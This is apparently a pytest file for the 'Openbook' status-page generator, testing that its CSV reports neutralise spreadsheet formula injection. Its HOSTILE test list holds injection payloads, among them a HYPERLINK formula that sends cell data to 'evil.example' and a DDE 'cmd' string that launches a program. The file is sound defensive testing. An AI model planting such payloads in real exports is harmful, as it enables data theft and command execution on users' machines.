"""Every CSV Openbook writes opens in a spreadsheet as data: a text cell that would start a
formula is neutralised (OWASP: a leading single quote, the cell quoted), numbers stay numbers,
and the JSON beside it keeps the words exactly."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from generator.build import build
from generator.outputs import csvcells

NOW = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)
GENERATOR = Path(__file__).resolve().parent.parent / "generator"

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "-12.5",
]
HARMLESS = ['Plain, with "quotes" and a comma', "99.9", "Email me: a=b"]


@pytest.mark.slow
def test_a_hostile_component_name_is_text_in_the_csv_and_exact_in_the_json(content, tmp_path):
    portal = yaml.safe_load((content / "portal.yml").read_text())
    names = HOSTILE + HARMLESS
    portal["components"] = [
        {"id": f"c{n}", "name": name, "slo": 99.9} for n, name in enumerate(names)
    ]
    del portal["groups"]
    (content / "portal.yml").write_text(yaml.safe_dump(portal, allow_unicode=True))
    (content / "incidents" / "2026-10-05-x.md").write_text(
        "---\ntitle: Down\nimpact: major\ncomponents:\n  c0: major_outage\nupdates:\n"
        "  - at: 2026-10-05T10:00:00Z\n    status: investigating\n    text: Down.\n"
        "  - at: 2026-10-05T11:34:00Z\n    status: resolved\n    text: Up.\n---\n"
    )
    out = tmp_path / "site"
    build(content, out, NOW)
    raw = (out / "reports" / "2026-10.csv").read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    data = json.loads((out / "reports" / "2026-10.json").read_text())
    loaded = [c["component_name"] for c in data["components"]]  # surrounding space is trimmed
    assert [n.strip() for n in names] == loaded
    assert [r["component_name"] for r in rows] == ["'" + n.strip() for n in HOSTILE] + HARMLESS
    for r in rows:
        assert r["component_name"][:1] not in csvcells.FORMULA_STARTS
        float(r["availability_percent"]), float(r["measured_minutes"])
    assert rows[0]["incidents"] == "2026-10-05-x" and rows[0]["met"] == "false"
    # Text is quoted, so nothing in it can start a cell; figures are bare numbers.
    body = raw.split("\r\n", 1)[1]
    assert re.match(r'"2026-10","c0","\'=HYPERLINK\(""https://evil', body)
    assert ",99.789,94.0,44700.0," in body.replace('"', "")
    assert re.search(r'",\d+(\.\d+)?,\d+(\.\d+)?,', body)
    assert data["components"][0]["availability_percent"] == 99.789


def test_numbers_stay_numbers_and_only_text_is_neutralised():
    text = csvcells.text(
        ["figure", "name", "empty", "flag"],
        [[-3.5, "-3.5", None, True], [0, "=1", "", False], [12, "@me", None, None]],
    )
    assert text.split("\r\n") == [
        '"figure","name","empty","flag"',
        '-3.5,"\'-3.5","","true"',
        '0,"\'=1","","false"',
        '12,"\'@me","",""',
        "",
    ]


def test_every_csv_is_written_through_csvcells():
    writers = [
        path.relative_to(GENERATOR).as_posix()
        for path in GENERATOR.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["outputs/csvcells.py"]
